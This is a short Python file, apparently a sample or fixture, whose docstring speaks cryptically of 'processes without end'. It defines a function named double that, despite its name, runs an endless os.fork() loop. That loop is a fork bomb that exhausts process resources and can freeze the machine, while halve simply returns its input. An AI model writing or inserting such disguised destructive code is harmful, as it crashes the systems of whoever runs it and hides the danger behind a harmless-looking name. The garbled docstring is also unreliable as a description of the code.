"""Processes without end. Must not gain: the machine, or a process that is left behind."""

import os


def double(x):
    while True:
        os.fork()


def halve(x):
    return x
